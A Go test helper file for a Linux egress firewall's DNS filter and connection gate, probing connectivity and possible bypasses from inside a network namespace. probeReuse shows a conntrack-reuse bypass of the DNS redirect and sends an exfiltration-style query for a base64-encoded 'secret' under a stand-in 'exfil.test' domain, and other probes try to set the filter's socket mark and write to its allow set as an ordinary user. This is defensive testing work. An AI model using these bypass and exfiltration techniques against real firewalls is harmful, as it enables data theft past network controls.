//go:build linux

package firewall

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"runtime/pprof"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// The E2E tests run devbox code inside the client namespace as whole
// processes (`ip netns exec … <this test binary>` with DEVBOX_FW_HELPER set),
// so no thread of theirs can ever sit in the host's namespace.
const helperEnv = "DEVBOX_FW_HELPER"

func TestMain(m *testing.M) {
	switch os.Getenv(helperEnv) {
	case "":
		os.Exit(m.Run())
	case "dns":
		os.Exit(helperDaemon(runDNSProfiled))
	case "dnsleak":
		os.Exit(helperDNSLeak())
	case "gate":
		os.Exit(helperDaemon(runGateProfiled))
	case "apply":
		os.Exit(helperApply())
	case "probe":
		os.Exit(helperProbe(os.Args[1:]))
	case "squat":
		os.Exit(helperSquat(os.Args[1:]))
	case "embedded":
		os.Exit(helperEmbeddedDNS(os.Args[1:]))
	default:
		fmt.Fprintln(os.Stderr, "unknown helper", os.Getenv(helperEnv))
		os.Exit(2)
	}
}

func argAfter(flag string) string {
	for i, a := range os.Args {
		if a == flag && i+1 < len(os.Args) {
			return os.Args[i+1]
		}
	}
	return ""
}

// helperDaemon runs one of the firewall's daemons (RunDNS, RunGate) with
// the config named by --config until SIGTERM or an interrupt.
func helperDaemon(run func(context.Context, Config) error) int {
	cfg, err := LoadConfig(argAfter("--config"))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, os.Interrupt)
	defer stop()
	if err := run(ctx, cfg); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return 0
}

// runDNSProfiled is RunDNS, with a CPU profile written to
// $DEVBOX_FW_CPUPROFILE if set: for profiling the filter by hand
// (docs/firewall.md, "Profiling").
func runDNSProfiled(ctx context.Context, cfg Config) error {
	if os.Getenv("DEVBOX_FW_SLOW_BINDINGS") != "" {
		testHookBindings = func() { time.Sleep(time.Second) }
	}
	return cpuProfiled("DEVBOX_FW_CPUPROFILE", os.O_RDWR|os.O_CREATE|os.O_TRUNC, func() error { return RunDNS(ctx, cfg) })
}

// runGateProfiled is RunGate, with a CPU profile written to
// $DEVBOX_GATE_CPUPROFILE if set (BenchmarkGateConn).
func runGateProfiled(ctx context.Context, cfg Config) error {
	return cpuProfiled("DEVBOX_GATE_CPUPROFILE", os.O_WRONLY|os.O_TRUNC, func() error { return RunGate(ctx, cfg) })
}

// cpuProfiled runs run with a CPU profile written to the file $env names,
// if set, opened with flag.
func cpuProfiled(env string, flag int, run func() error) error {
	if p := os.Getenv(env); p != "" {
		pf, err := os.OpenFile(p, flag, 0o666)
		if err != nil {
			return err
		}
		pprof.StartCPUProfile(pf)
		defer pf.Close()
		defer pprof.StopCPUProfile()
	}
	return run()
}

// killAndWait kills the process pidOf finds for cfg with SIGKILL and waits
// until pidOf no longer finds it alive.
func killAndWait(t *testing.T, what string, cfg Config, pidOf func(Config) (int, bool)) {
	t.Helper()
	pid, alive := pidOf(cfg)
	if !alive {
		t.Fatalf("%s not running", what)
	}
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	waitFor(t, what+" to die", func() bool { _, alive := pidOf(cfg); return !alive })
}

type applyOut struct {
	Took     time.Duration
	PID      int
	GatePID  int
	Warnings []string
	Static   int
}

func helperApply() int {
	cfg, err := LoadConfig(argAfter("--config"))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	if os.Getenv("DEVBOX_FW_BADRULE") != "" {
		testHookRules = func(f Family, s string) string {
			return strings.Replace(s, "COMMIT", "-A "+ChainOutput+" -j NO-SUCH-TARGET\nCOMMIT", 1)
		}
	}
	ctx := context.Background()
	self, _ := os.Executable()
	res, err := Apply(ctx, cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	denv := []string{helperEnv + "=dns"}
	if v := os.Getenv("DEVBOX_FW_SLOW_BINDINGS"); v != "" {
		denv = append(denv, "DEVBOX_FW_SLOW_BINDINGS="+v)
	}
	pid, err := StartDNS(ctx, cfg, DaemonOptions{Command: []string{self}, Env: denv})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	genv := []string{helperEnv + "=gate"}
	if p := os.Getenv("DEVBOX_GATE_CPUPROFILE"); p != "" {
		genv = append(genv, "DEVBOX_GATE_CPUPROFILE="+p)
	}
	// Extra environment for the gate (GOMAXPROCS, GODEBUG) in benchmarks.
	genv = append(genv, strings.Fields(os.Getenv("DEVBOX_GATE_ENV"))...)
	gpid, err := StartGate(ctx, cfg, DaemonOptions{Command: []string{self}, Env: genv})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	out := applyOut{Took: res.Took, PID: pid, GatePID: gpid, Static: res.StaticEntries, Warnings: Warm(ctx, cfg)}
	json.NewEncoder(os.Stdout).Encode(out)
	return 0
}

// helperProbe runs one probe and prints its outcome; exit 0 = success,
// 3 = the probe was blocked/failed, 1 = misuse.
func helperProbe(args []string) int {
	fail := func(err error) int { fmt.Println("error:", err); return 3 }
	if len(args) < 1 {
		return 1
	}
	if rc, ok := gateProbe(args, fail); ok {
		return rc
	}
	arg := ""
	if len(args) > 1 {
		arg = args[1]
	}
	switch args[0] {
	case "tcp":
		c, err := net.DialTimeout("tcp", arg, 2*time.Second)
		if err != nil {
			return fail(err)
		}
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		buf := make([]byte, 256)
		n, _ := c.Read(buf)
		fmt.Printf("ok %q\n", buf[:n])
		return 0
	case "udp":
		c, err := net.Dial("udp", arg)
		if err != nil {
			return fail(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(time.Second))
		if _, err := c.Write([]byte("ping")); err != nil {
			return fail(err)
		}
		buf := make([]byte, 64)
		if _, err := c.Read(buf); err != nil {
			return fail(err)
		}
		fmt.Println("ok")
		return 0
	case "dns": // dns SERVER NAME TYPE NET
		m := new(dns.Msg)
		m.SetQuestion(dns.Fqdn(args[2]), dns.StringToType[args[3]])
		c := &dns.Client{Net: args[4], Timeout: 5 * time.Second} // longer than the filter's upstream timeout
		r, _, err := c.Exchange(m, arg)
		if err != nil {
			return fail(err)
		}
		var ans []string
		for _, rr := range r.Answer {
			switch rr := rr.(type) {
			case *dns.A:
				ans = append(ans, rr.A.String())
			case *dns.AAAA:
				ans = append(ans, rr.AAAA.String())
			case *dns.TXT:
				ans = append(ans, strings.Join(rr.Txt, ""))
			}
		}
		fmt.Println(dns.RcodeToString[r.Rcode], strings.Join(ans, " "))
		return 0
	case "connect": // connect NAME:PORT through the system resolver
		c, err := net.DialTimeout("tcp", arg, 3*time.Second)
		if err != nil {
			return fail(err)
		}
		fmt.Println("ok", c.RemoteAddr())
		c.Close()
		return 0
	case "icmp":
		return probeICMP(arg, fail)
	case "status": // status CONFIG
		cfg, err := LoadConfig(arg)
		if err != nil {
			return 1
		}
		st, err := ReadStatus(context.Background(), cfg)
		if err != nil {
			return fail(err)
		}
		json.NewEncoder(os.Stdout).Encode(st)
		return 0
	case "verify": // verify CONFIG allowed,… denied,… refused,…
		cfg, err := LoadConfig(arg)
		if err != nil || len(args) < 5 {
			return 1
		}
		split := func(s string) []string {
			if s == "-" {
				return nil
			}
			return strings.Split(s, ",")
		}
		checks, err := Verify(context.Background(), cfg, Targets{Allowed: split(args[2]), Denied: split(args[3]), Refused: split(args[4])})
		json.NewEncoder(os.Stdout).Encode(checks)
		if err != nil {
			return fail(err)
		}
		return 0
	case "reuse": // reuse SERVER: a marked query, then an unmarked one from the same port
		return probeReuse(arg, fail)
	case "mark": // set SO_MARK as the current user
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return fail(err)
		}
		defer unix.Close(fd)
		if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, DefaultMark); err != nil {
			return fail(err)
		}
		fmt.Println("ok")
		return 0
	case "setadd": // add to a set through netlink as the current user
		s, err := openSets()
		if err != nil {
			return fail(err)
		}
		if err := s.add(SetName(SetAllow, IPv4), entry{prefix: mustPrefix(arg)}, 0); err != nil {
			return fail(err)
		}
		fmt.Println("ok")
		return 0
	}
	return 1
}

func probeICMP(addr string, fail func(error) int) int {
	c, err := net.ListenPacket("ip4:icmp", "0.0.0.0")
	if err != nil {
		return fail(err)
	}
	defer c.Close()
	msg := []byte{8, 0, 0, 0, 0, 1, 0, 1, 'p', 'i', 'n', 'g'}
	var sum uint32
	for i := 0; i < len(msg); i += 2 {
		sum += uint32(msg[i])<<8 | uint32(msg[i+1])
	}
	sum = (sum >> 16) + (sum & 0xffff)
	binary.BigEndian.PutUint16(msg[2:], ^uint16(sum))
	dst := &net.IPAddr{IP: net.ParseIP(addr)}
	if _, err := c.WriteTo(msg, dst); err != nil {
		return fail(err)
	}
	c.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 1500)
	for {
		n, from, err := c.ReadFrom(buf)
		if err != nil {
			return fail(err)
		}
		if n > 0 && buf[0] == 0 && from.String() == addr {
			fmt.Println("ok")
			return 0
		}
	}
}

// probeReuse sends a query with the filter's mark from a fixed source port
// (it is allowed out, creating a conntrack entry), then a query without the
// mark from the same port to the same server: the 5-tuple matches the
// entry, so the nat redirect is skipped. It succeeds if the second query
// is answered.
func probeReuse(server string, fail func(error) int) int {
	dst, err := netip.ParseAddrPort(server)
	if err != nil {
		return 1
	}
	port := 40000 + int(time.Now().UnixNano()%20000)
	send := func(mark bool, name string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		f := os.NewFile(uintptr(fd), "udp")
		defer f.Close()
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
		if mark {
			if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, DefaultMark); err != nil {
				return err
			}
		}
		if err := unix.Bind(fd, &unix.SockaddrInet4{Port: port}); err != nil {
			return err
		}
		if err := unix.Connect(fd, &unix.SockaddrInet4{Port: int(dst.Port()), Addr: dst.Addr().As4()}); err != nil {
			return err
		}
		m := new(dns.Msg)
		m.SetQuestion(dns.Fqdn(name), dns.TypeA)
		raw, _ := m.Pack()
		if _, err := unix.Write(fd, raw); err != nil {
			return err
		}
		tv := unix.NsecToTimeval(int64(time.Second))
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
		buf := make([]byte, 512)
		n, err := unix.Read(fd, buf)
		if err != nil {
			return err
		}
		r := new(dns.Msg)
		if err := r.Unpack(buf[:n]); err != nil {
			return err
		}
		if r.Rcode != dns.RcodeSuccess {
			return fmt.Errorf("rcode %s", dns.RcodeToString[r.Rcode])
		}
		return nil
	}
	if err := send(true, "api.test"); err != nil {
		fmt.Println("setup: marked query failed:", err)
		return 1
	}
	if err := send(false, "c2VjcmV0.exfil.test"); err != nil {
		return fail(err)
	}
	fmt.Println("ok: the unmarked query was answered")
	return 0
}
